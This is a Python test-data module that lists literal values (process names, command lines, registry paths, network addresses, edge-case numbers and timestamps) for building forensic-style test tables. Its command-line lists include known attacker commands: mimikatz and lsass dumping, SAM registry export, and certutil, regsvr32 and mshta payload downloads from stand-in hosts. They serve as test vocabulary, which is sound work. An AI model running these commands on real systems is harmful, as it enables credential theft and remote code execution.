"""Literal value lists used to derive forensic-looking tables from the
driver's TPC-H-like tables.  Each derived cell is ``LIST[(int expr) % len]``
so DuckDB can rebuild the very same view for the oracle.  These values are
our own test vocabulary (ASCII only, so regex word boundaries agree between
Java and RE2).
"""

PROCESS_NAMES = [
    "System", "smss.exe", "csrss.exe", "wininit.exe", "services.exe", "lsass.exe",
    "svchost.exe", "explorer.exe", "winlogon.exe", "dwm.exe", "svch0st.exe", "lsas.exe",
    "scvhost.exe", "cmd.exe", "powershell.exe", "WINWORD.EXE", "excel.exe", "chrome.exe",
    "firefox.exe", "rundll32.exe", "spoolsv.exe", "taskhostw.exe", "dllhost.exe",
    "wmiprvse.exe", "notepad.exe", " Explorer.EXE ", "mshta.exe", "sshd.exe", "nginx.exe",
    "conhost.exe", "runtimebroker.exe", "fontdrvhost.exe", "lsaiso.exe", "searchindexer.exe",
    "wscript.exe", "pwsh.exe", "certutil.exe", "mmc.exe", "", "expl0rer.exe", "svchost.exe",
]

PARENT_NAMES = [
    "", "services.exe", "winword.exe", "explorer.exe", "wmiprvse.exe", "svchost.exe",
    "smss.exe", "OUTLOOK.EXE", "wininit.exe", "", "excel.exe", "services.exe", "dllhost.exe",
    "wsmprovhost.exe",
]

PROCESS_PATHS = [
    "C:\\Windows\\System32\\svchost.exe", "C:\\Users\\bob\\AppData\\Local\\Temp\\svchost.exe",
    "", "\\SystemRoot\\System32\\smss.exe", "c:\\windows\\system32evil\\lsass.exe",
    "C:\\ProgramData\\csrss.exe", "\\??\\C:\\Windows\\system32\\csrss.exe",
    "C:\\Windows\\explorer.exe", "D:\\tools\\services.exe",
    "%SystemRoot%\\System32\\wininit.exe", "C:\\Windows\\SysWOW64\\dllhost.exe",
]

USERS = [
    "NT AUTHORITY\\SYSTEM", "S-1-5-18", "DESKTOP-01\\bob", "",
    "S-1-5-21-1004336348-1177238915-682003330-1001", "NT AUTHORITY\\LOCAL SERVICE",
    "Local System", "WORKGROUP\\alice", "LocalService",
]

CMDLINES = [
    "", "C:\\Windows\\system32\\svchost.exe -k netsvcs", "cmd.exe /c whoami /all",
    "net user administrator", "net group \"domain admins\" /domain", "ipconfig /all",
    "netstat -ano", "mimikatz.exe privilege::debug sekurlsa::logonpasswords",
    "procdump.exe -ma lsass.exe out.dmp",
    "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
    "reg save HKLM\\SAM C:\\temp\\sam.hiv", "systeminfo", "tasklist /v", "nltest /dclist:corp",
    "wmic process list brief", "arp -a", "powershell -nop -w hidden -enc SQBFAFgA",
    "notepad.exe C:\\Users\\bob\\notes.txt", "nslookup evil.example.com",
    "vssadmin create shadow /for=C:", "query user", "route print", "schtasks /query /fo LIST",
    "sc query state= all", "cmdkey /list", "wevtutil qe Security",
]

PROTOCOLS = ["TCPv4", "TCPv6", "UDPv4", "TCP"]
STATES = ["ESTABLISHED", "LISTENING", "CLOSE_WAIT", "Listen", "", "SYN_SENT", "TIME_WAIT"]
SRC_ADDRS = ["10.0.0.5", "0.0.0.0", "127.0.0.1", "::", "192.168.1.20", "*", "fe80::1", "172.16.4.2"]
SRC_PORTS = ["49708", "443", "0x1bb", "1f90", "8080", "", "1E5", " 135 ", "445"]
DST_ADDRS = [
    "40.67.254.36", "8.8.8.8", "10.1.2.3", "172.20.0.1", "100.64.0.1", "224.0.0.1",
    "2001:4860::8888", "::1", "", "*", "0.0.0.0", "192.0.2.5", "not-an-ip", "fe80::1%eth0",
    "::ffff:8.8.8.8", "2002::1", "198.18.0.1", "01.2.3.4", "169.254.1.1", "255.255.255.255",
    "203.0.113.9", "93.184.216.34", "2001:db8::1", "192.0.0.9", "ff02::1", "fec0::1",
    "2001:1::1", "2001::5", "1.2.3", "300.1.1.1", "2a00:1450:4001:81c::200e", "0",
]
DST_PORTS = ["443", "80", "4444", "0x50", "1f90", "", "53", "8443", "1E5", "-1", "65535",
             "1_000", "0", "3389", "abc", "+8080", "0443", "9" * 40, "0x" + "a" * 20]

DNS_NAMES = ["powershell.exe", "chrome.exe", "cmd.exe", "", "svchost.exe", "mshta.exe",
             "CertUtil.exe", "rundll32.exe"]
DNS_QUERIES = ["evil.example.com", "", "update.microsoft.com", "c2.badhost.net", "login.live.com"]

MEM_PROCS = ["svchost.exe", "lsass.exe", "explorer.exe", "", "notepad.exe", "csrss.exe",
             "chrome.exe", "Services.exe", "dwm.exe", "runtimebroker.exe", "evil.exe"]
MEM_PROTECTIONS = ["PAGE_EXECUTE_READWRITE", "RWX", "-rwx", "erw-", "ERWX", "PAGE_READONLY",
                   "r-x", "", "page_execute_readwrite", "xRWXx", "p-rwx", "ERW"]
MEM_FILES = [
    "", "-", "N/A", "none", "Unknown", "Private", "pagefile-backed",
    "C:\\Windows\\System32\\ntdll.dll",
    "\\Device\\HarddiskVolume3\\Windows\\System32\\svchost.exe",
    "c:\\windows\\system32\\lsass.exe", "C:\\Users\\bob\\AppData\\evil.dll",
    "MZ header present", "4D5A9000", "PE32 executable", "C:\\Windows\\explorer.exe",
]
MEM_TYPES = ["", "Private", "Image", "Mapped", "VadS", "PEB_x64", "MZ", "image_section",
             "Private Commit", "Executable"]

REG_PATHS = [
    "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\",
    "HKLM\\System\\CurrentControlSet\\Services\\Tcpip",
    "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell",
    "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer\\Run",
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunServices\\x",
    "HKLM\\Software\\Classes",
]
REG_DATA = [
    "C:\\Users\\bob\\AppData\\Roaming\\upd.exe", "C:\\Program Files\\App\\app.exe",
    "%TEMP%\\x.exe", "C:\\ProgramData\\svc.exe", "", "C:\\Windows\\system32\\ctfmon.exe",
    "C:\\$Recycle.Bin\\a.exe", "C:\\Intel\\x.exe",
]
SVC_BINS = [
    "C:\\Windows\\System32\\svchost.exe -k netsvcs", "cmd.exe /c start evil",
    "C:\\Windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -nop",
    "C:\\Program Files\\Vendor\\agent.exe", "rundll32.exe evil.dll,Start",
    "\"C:\\Program Files\\x\\y.exe\"", "sc \\\\host create", "mshta http://x", "",
]
TASK_ACTIONS = [
    "cmd /c echo hi", "powershell.exe -w hidden -enc AAAA", "C:\\Program Files\\App\\updater.exe",
    "mshta.exe vbscript:Close", "certutil -urlcache -f http://x a.exe",
    "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll", "rundll32 javascript:alert(1)", "",
    "notepad.exe",
]

HEX_VALUES = ["0xFF", "ff", "0x1A", "0xGG", "0x7fffffffffffffff", "-0x10", "0x_1f", "", "deadbeef",
              "0xffffffffffffffff", "12", "  0xBEEF  ", "zz", "0X10", "0x10000000000000000",
              "-fffffffffffffffff", "0x" + "f" * 32, "0x" + "123456789abcdef0" * 4, "0x1_0000_0000_0000_0000_0000",
              "0000000000000000000000ff", "0x" + "0" * 40]
# integers beyond 64 and 128 bits
WIDE_INTS = ["123456789012345678901", "-" + "9" * 38, "1" + "0" * 38, "+" + "7" * 45, "0" * 50 + "42", "-0" + "3_1" * 15,
             "9" * 60]
FLOAT_VALUES = ["3.14", "42", "1e5", "-0.0", "inf", "-Infinity", "nan", "1_000.5", ".5", "5.", "abc",
                "12345678.9", "0.0001", "0.00001", "1e16", "123456789012345678", " 2.5 ", "", "1.5.2",
                "2.5e-3"]
BOOL_VALUES = ["true", "False", "YES", "no", "1", "0", "maybe", "", " TRUE ", "t"]
TS_VALUES = [
    "2024-01-15T10:30:00", "2024-01-15T10:30:00.5", "2024-01-15 10:30:00.123456",
    "2024/01/15 10:30:00", "01/02/2024 10:30:00", "13/02/2024 10:30:00", "2024-01-15", "1/5/2024",
    "1705312200", "1705312200123", "20240115", "2024-02-30", "not a date", "", "2024-1-5 3:4:5",
    "2024-01-15T10:30:00.1234567", "2024-01-15  10:30:00", "-1", "99999999999999999",
    "31/12/2024 23:59:59", "2024-01- 5", "2024-01-15 10:30:60",
]
STATUS_VALUES = ["O", "F", "P", ""]

NETSTAT_LOCAL = ["0.0.0.0:135", "10.0.0.5:49708", "[::]:445", "127.0.0.1:5357", "*:*", "fe80::1:9",
                 "192.168.1.20:139"]
NETSTAT_REMOTE = ["40.67.254.36:443", "0.0.0.0:0", "[::]:0", "*:*", "8.8.8.8:53", "nocolon"]
NETSTAT_STATES = ["ESTABLISHED", "LISTENING", "CLOSE_WAIT", "TIME_WAIT"]
